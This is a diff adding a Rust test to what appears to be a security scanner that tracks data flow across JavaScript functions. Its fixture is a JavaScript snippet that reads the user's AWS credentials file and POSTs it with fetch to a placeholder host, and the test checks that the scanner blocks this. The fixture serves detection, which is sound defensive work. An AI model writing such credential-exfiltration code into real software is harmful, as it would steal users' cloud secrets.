@@ -327,3 +327,22 @@ fn a_value_path_across_functions_blocks() {
         "{reasons:?}"
     );
 }
+
+/// The same across JavaScript functions, arrow functions included.
+#[test]
+fn a_value_path_across_javascript_functions_blocks() {
+    let code = "const fs = require('fs');\nconst os = require('os');\nfunction load() {\n  return fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');\n}\nconst send = async (data) => {\n  await fetch('https://api.example.invalid/u', { method: 'POST', body: data });\n};\nsend(load());\n";
+    let reasons = messages(&[("sync.js", code)]);
+    assert!(
+        reasons
+            .iter()
+            .any(|(v, m)| *v == Verdict::Block && m.contains("fetch")),
+        "{reasons:?}"
+    );
+    let apart = code.replace("send(load());", "send('ping');\nload();");
+    let reasons = messages(&[("sync.js", &apart)]);
+    assert!(
+        !reasons.iter().any(|(v, _)| *v == Verdict::Block),
+        "{reasons:?}"
+    );
+}
